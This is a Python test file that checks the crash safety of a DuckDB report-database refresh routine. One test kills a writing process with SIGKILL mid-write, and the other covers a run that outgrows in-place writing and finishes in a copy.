def test_kill_9_while_writing_in_place_leaves_the_old_or_the_new_database(tmp_path, where):
    corpus = tmp_path / "reports"
    for i in range(30):
        write_tiny(corpus, i)
    db = tmp_path / "p.duckdb"
    refresh([corpus], db, progress=False)
    old = content(db)
    for i in range(30, 33):
        write_tiny(corpus, i)
    write_tiny(corpus, 3, " (corrected)")
    (corpus / "r00007.md").unlink()
    reference = tmp_path / "reference.duckdb"
    shutil.copyfile(db, reference)
    refresh([corpus], reference, progress=False)
    new = content(reference)
    assert old != new

    child = multiprocessing.get_context("fork").Process(target=_refresh_killed_in_place, args=(str(corpus), str(db), where))
    child.start()
    child.join(60)
    assert child.exitcode == -signal.SIGKILL
    expected = old if where == "before commit" else new
    assert content(db) == expected  # a reader opens it, and sees one state or the other
    again = refresh([corpus], db, progress=False)  # completes the work
    assert content(db) == new
    assert (again.reports_new, again.reports_replaced) == ((3, 1) if where == "before commit" else (0, 0))
    assert not list(tmp_path.glob("p.duckdb.tmp-*")) and not (tmp_path / "p.duckdb.wal").exists()


def test_a_run_that_outgrows_writing_in_place_goes_on_in_a_copy(tmp_path, monkeypatch):
    corpus = tmp_path / "reports"
    for i in range(10):
        write_tiny(corpus, i)
    db, reference = tmp_path / "p.duckdb", tmp_path / "reference.duckdb"
    refresh([corpus], db, progress=False)
    shutil.copyfile(db, reference)
    for i in range(10, 17):
        write_tiny(corpus, i)
    write_tiny(corpus, 2, " (corrected)")
    (corpus / "r00004.md").unlink()
    refresh([corpus], reference, progress=False)  # in place
    inode = _inode(db)
    monkeypatch.setattr(refresh_mod, "BATCH", 2)
    monkeypatch.setattr(refresh_mod, "IN_PLACE_MAX_REPORTS", 3)  # read-only until the 4th new report
    summary = refresh([corpus], db, progress=False)
    assert _inode(db) != inode  # published from a copy made mid-run
    assert (summary.reports_new, summary.reports_replaced, summary.reports_removed) == (7, 1, 1)
    assert content(db) == content(reference)
